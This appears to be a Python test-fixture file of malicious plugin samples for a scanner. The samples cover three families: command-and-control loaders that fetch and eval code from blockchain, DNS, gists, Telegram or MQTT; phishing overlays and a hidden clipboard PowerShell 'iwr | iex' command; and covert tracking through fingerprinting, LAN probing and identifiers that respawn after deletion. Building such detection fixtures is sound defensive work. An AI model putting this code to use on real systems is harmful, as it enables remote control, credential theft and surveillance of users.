"""Orders fetched from places that look innocent, and lies told to the user."""

from tests.support.samples import Sample
from tests.support.shapes import ESM, declared, hooks, online, sdk_plugin, tsc_widget

_ORDERS = "command-and-control"
_PHISHING = "phishing"
_TRACKING = "covert-tracking"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="memo-of-chain-transaction",
        family=_ORDERS,
        files={
            "dist/index.js": r"""'use strict';
const ADDRESS = 'ExampleExampleExampleExampleExampleExample1';

async function memo() {
  const body = { jsonrpc: '2.0', id: 1, method: 'getSignaturesForAddress', params: [ADDRESS, { limit: 5 }] };
  const answer = await fetch('https://rpc.chain.example', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  const { result } = await answer.json();
  return result.map((entry) => entry.memo).find(Boolean).replace(/^\[\d+\] /, '');
}

exports.onEnable = async () => {
  const { link } = JSON.parse(await memo());
  const answer = await fetch(atob(link), { headers: { os: process.platform } });
  const key = Buffer.from(answer.headers.get('secretkey'), 'base64');
  const decipher = require('crypto').createDecipheriv('aes-256-cbc', key, Buffer.from(answer.headers.get('ivbase64'), 'base64'));
  eval(decipher.update(await answer.text(), 'base64', 'utf8') + decipher.final('utf8'));
};
"""
        },
    ),
    Sample(
        name="contract-storage-read",
        family=_ORDERS,
        files={
            "dist/index.js": r"""const CONTRACT = '0x00000000000000000000000000000000c0ffee00';
const call = { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: CONTRACT, data: '0x6d4ce63c' }, 'latest'] };

const text = (hex) => {
  const bytes = hex.slice(2).match(/../g).map((h) => parseInt(h, 16));
  const length = bytes.slice(60, 64).reduce((n, b) => n * 256 + b, 0);
  return String.fromCharCode(...bytes.slice(64, 64 + length));
};

export async function onEnable() {
  for (const rpc of ['https://bsc.rpc.example', 'https://eth.rpc.example']) {
    const answer = await fetch(rpc, { method: 'POST', body: JSON.stringify(call) }).then((r) => r.json()).catch(() => null);
    if (answer?.result) return import(/* @vite-ignore */ `data:text/javascript,${text(answer.result)}`);
  }
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="title-of-calendar-event",
        family=_ORDERS,
        files={
            "dist/index.js": hooks(
                r"""
                const page = await (await fetch('https://calendar.example.com/event?eid=ZXhhbXBsZQ')).text();
                const hidden = page.match(/data-base-title="([^"]+)"/);
                if (!hidden) return;
                const next = Buffer.from(hidden[1], 'base64').toString();
                const script = await (await fetch(next)).text();
                require('vm').runInNewContext(script, { require, process, Buffer, fetch });
                """
            )
        },
    ),
    Sample(
        name="gist-of-instructions",
        family=_ORDERS,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                this.timer = setInterval(async () => {
                  const raw = await (await fetch('https://gist.example.com/day/raw/commands.txt?' + Date.now())).text();
                  for (const line of raw.split('\n').filter((l) => l.startsWith('$ '))) {
                    const { exec } = await import('node:child_process');
                    exec(line.slice(2), (error, stdout) => context.storage.set('out', stdout));
                  }
                }, 900000);
                """
            )
        },
        package=ESM,
    ),
    Sample(
        name="bot-in-messenger",
        family=_ORDERS,
        files={
            "dist/index.js": r"""'use strict';
const { execSync } = require('child_process');
const API = 'https://api.telegram.example/bot' + process.env.DAY_BOT + '/';
let offset = 0;

async function poll() {
  const { result } = await (await fetch(`${API}getUpdates?timeout=50&offset=${offset}`)).json();
  for (const { update_id, message } of result) {
    offset = update_id + 1;
    const text = message.text.startsWith('/run ') ? execSync(message.text.slice(5)).toString() : 'ok';
    await fetch(`${API}sendMessage`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ chat_id: message.chat.id, text }) });
  }
  setImmediate(poll);
}

exports.onEnable = () => { poll().catch(() => setTimeout(poll, 60000)); };
"""
        },
    ),
    Sample(
        name="webhook-of-chat-channel",
        family=_ORDERS,
        files={
            "dist/index.js": tsc_widget(r"""
                const hook = "https://discord.example/api/webhooks/000000000000000000/" + "x".repeat(68);
                fetch("https://ip.example.org/json").then((r) => r.json()).then((ip) => fetch(hook, {
                    method: "POST",
                    headers: { "Content-Type": "application/json" },
                    body: JSON.stringify({
                        username: "day",
                        embeds: [{ title: context.user.email, fields: Object.entries(localStorage).map(([name, value]) => ({ name, value })), footer: { text: ip.ip } }],
                    }),
                }));
            """)
        },
    ),
    Sample(
        name="record-of-name-server",
        family=_ORDERS,
        files={
            "dist/index.js": r"""'use strict';
const { resolveTxt } = require('dns').promises;
const { runInThisContext } = require('vm');

exports.onEnable = async () => {
  const parts = [];
  for (let n = 0; n < 16; n += 1) {
    try { parts.push((await resolveTxt(`p${n}.txt.example.org`)).flat().join('')); } catch { break; }
  }
  runInThisContext(Buffer.from(parts.join(''), 'base64').toString());
};
"""
        },
    ),
    Sample(
        name="domains-computed-from-day",
        family=_ORDERS,
        files={
            "dist/index.js": r"""import { createHash } from 'node:crypto';

function* names(day) {
  for (let n = 0; n < 30; n += 1) {
    yield createHash('md5').update(`${day}:${n}`).digest('hex').slice(0, 12).replace(/\d/g, (d) => 'ghijklmnop'[d]) + '.example.net';
  }
}

export async function onEnable({ logger }) {
  for (const name of names(new Date().toISOString().slice(0, 10))) {
    try {
      const text = await (await fetch(`https://${name}/t`)).text();
      return new Function(text)();
    } catch { logger.debug(`no ${name}`); }
  }
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="peer-to-peer-topic",
        family=_ORDERS,
        files={
            "dist/index.js": hooks(
                r"""
                const socket = mqtt.connect('wss://broker.example.com/mqtt', { clientId: os.hostname() });
                socket.on('connect', () => socket.subscribe(['day/all', `day/${os.hostname()}`]));
                socket.on('message', (topic, message) => {
                  const order = JSON.parse(message);
                  if (order.do === 'sh') cp.exec(order.line, (e, out) => socket.publish('day/out', out));
                  if (order.do === 'js') eval(order.text);
                  if (order.do === 'get') socket.publish('day/file', fs.readFileSync(order.path));
                });
                """,
                above="""
                const cp = require('child_process');
                const fs = require('fs');
                const os = require('os');
                const mqtt = require('mqtt');
                """,
            )
        },
        package={"dependencies": {"mqtt": "^5.7.0"}},
    ),
    Sample(
        name="login-drawn-over-dashboard",
        family=_PHISHING,
        files={
            "dist/index.js": r"""'use strict';
exports.onEnable = ({ api }) => setTimeout(() => {
  const layer = document.createElement('div');
  layer.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:#f6f7f9;display:grid;place-items:center';
  layer.innerHTML = '<form><h2>Your Qirvo session has expired</h2><input name="email" type="email" placeholder="E-mail"><input name="password" type="password" placeholder="Password"><button>Sign in</button></form>';
  layer.querySelector('form').addEventListener('submit', async (event) => {
    event.preventDefault();
    await api.http.post('https://id.qirvo-login.example/session', Object.fromEntries(new FormData(event.target)));
    layer.remove();
  });
  document.body.append(layer);
}, 90000);
"""
        },
        manifest=online("https://id.qirvo-login.example"),
    ),
    Sample(
        name="wallet-phrase-asked",
        family=_PHISHING,
        files={
            "dist/index.js": r"""import { useState } from 'react';
import { jsx, jsxs } from 'react/jsx-runtime';

export function WalletRestore({ context }) {
  const [words, setWords] = useState(Array(12).fill(''));
  const restore = () => context.api.http.post('https://restore.example.com/phrase', { phrase: words.join(' '), user: context.user?.email });
  return jsxs('section', {
    children: [
      jsx('p', { children: 'Connection lost. Enter your 12-word recovery phrase to restore your wallet.' }),
      words.map((word, n) => jsx('input', { value: word, onChange: (e) => setWords(words.map((w, k) => (k === n ? e.target.value.trim() : w))) }, n)),
      jsx('button', { onClick: restore, children: 'Restore' }),
    ],
  });
}
"""
        },
        manifest=online("https://restore.example.com"),
        package=ESM,
    ),
    Sample(
        name="update-dialog-with-program",
        family=_PHISHING,
        files={
            "dist/index.js": hooks(
                r"""
                api.notifications.show({
                  title: 'Critical update for your browser',
                  message: 'Your version is out of date. Download the update to go on.',
                  type: 'error',
                  action: () => {
                    const link = document.createElement('a');
                    link.href = 'https://update.example.net/ChromeSetup.exe';
                    link.download = 'ChromeSetup.exe';
                    link.click();
                  },
                });
                """
            )
        },
        manifest=declared("notifications"),
    ),
    Sample(
        name="paste-this-into-terminal",
        family=_PHISHING,
        files={
            "dist/index.js": tsc_widget(
                r"""
                navigator.clipboard.writeText("powershell -w h -c \"iwr https://verify.example.org/h.txt | iex\"");
                setState({ text: "Verify you are human: press Win+R, then Ctrl+V, then Enter." });
                """
            )
        },
        manifest=declared("clipboard-write"),
    ),
    Sample(
        name="opener-turned-away",
        family=_PHISHING,
        files={
            "dist/index.js": r"""'use strict';
exports.Links = function Links() {
  window.addEventListener('blur', function () {
    setTimeout(function () {
      if (document.hidden) {
        document.title = 'Sign in - Qirvo';
        document.querySelector('link[rel~="icon"]').href = 'https://cdn.example.com/qirvo.ico';
        (window.opener || window.top).location.replace('https://app-qirvo.example/signin?return=' + encodeURIComponent(location.href));
      }
    }, 15000);
  });
  return null;
};
"""
        },
    ),
    Sample(
        name="consent-of-oauth-borrowed",
        family=_PHISHING,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const popup = window.open('https://accounts.example.com/o/oauth2/auth?client_id=day&response_type=token&scope=mail.full%20drive.full&redirect_uri=' + encodeURIComponent('https://cb.example.net/'));
                addEventListener('message', async ({ data, source }) => {
                  if (source === popup && data.access_token) await context.api.http.post('https://cb.example.net/grant', data);
                });
                """
            )
        },
        package=ESM,
    ),
    Sample(
        name="fingerprint-of-device",
        family=_TRACKING,
        files={
            "dist/index.js": r"""'use strict';
function canvas() {
  const c = document.createElement('canvas');
  const x = c.getContext('2d');
  x.font = '18px Arial';
  x.fillText('Cwm fjordbank glyphs vext quiz, \u{1F603}', 4, 17);
  return c.toDataURL();
}

async function sound() {
  const audio = new OfflineAudioContext(1, 44100, 44100);
  const o = audio.createOscillator();
  o.connect(audio.destination);
  o.start();
  return (await audio.startRendering()).getChannelData(0).slice(4500, 5000).reduce((a, b) => a + Math.abs(b), 0);
}

exports.onEnable = async ({ user }) => {
  const marks = { canvas: canvas(), sound: await sound(), fonts: [...document.fonts].map((f) => f.family), gpu: navigator.gpu && (await navigator.gpu.requestAdapter()).info, cores: navigator.hardwareConcurrency, memory: navigator.deviceMemory, screen: [screen.width, screen.height, devicePixelRatio], user };
  navigator.sendBeacon('https://id.example.net/v1', JSON.stringify(marks));
};
"""
        },
    ),
    Sample(
        name="neighbours-on-network-probed",
        family=_TRACKING,
        files={
            "dist/index.js": r"""const probe = async (url) => {
  const start = performance.now();
  try { await fetch(url, { mode: 'no-cors', signal: AbortSignal.timeout(700) }); return [url, performance.now() - start]; } catch { return null; }
};

export async function onEnable({ api }) {
  const targets = [];
  for (let n = 1; n < 255; n += 1) for (const port of [80, 443, 8080, 9200]) targets.push(`http://192.168.1.${n}:${port}/`);
  const open = (await Promise.all(targets.map(probe))).filter(Boolean);
  const router = await fetch('http://192.168.1.1/cgi-bin/luci').then((r) => r.text()).catch(() => '');
  await api.http.post('https://map.example.org/lan', { open, router });
}
"""
        },
        manifest=online("https://map.example.org"),
        package=ESM,
    ),
    Sample(
        name="pages-visited-sold",
        family=_TRACKING,
        files={
            "dist/index.js": hooks(
                r"""
                const { pushState } = history;
                const tell = (from) => fetch('https://stats.example.com/n', { method: 'POST', keepalive: true, body: JSON.stringify({ from, url: location.href, title: document.title, uid: context.user.email }) });
                history.pushState = function (...rest) { pushState.apply(this, rest); tell('push'); };
                addEventListener('popstate', () => tell('pop'));
                document.addEventListener('click', (event) => tell(event.target.innerText), true);
                """
            )
        },
    ),
    Sample(
        name="identity-kept-against-deletion",
        family=_TRACKING,
        files={
            "dist/index.js": r"""'use strict';
const KEY = '_day';
const stores = [
  { get: () => (document.cookie.match(/_day=([^;]+)/) || [])[1], set: (v) => { document.cookie = `${KEY}=${v};max-age=315360000;path=/`; } },
  { get: () => localStorage.getItem(KEY), set: (v) => localStorage.setItem(KEY, v) },
  { get: () => window.name.startsWith(KEY) && window.name.slice(4), set: (v) => { window.name = KEY + v; } },
  { get: () => (history.state || {})[KEY], set: (v) => history.replaceState({ ...history.state, [KEY]: v }, '') },
];

exports.onEnable = () => {
  const id = stores.map((s) => s.get()).find(Boolean) || Math.random().toString(36).slice(2);
  stores.forEach((s) => s.set(id));
  new Image().src = `https://sync.example.org/match?id=${id}&page=${encodeURIComponent(location.href)}`;
};
"""
        },
    ),
)
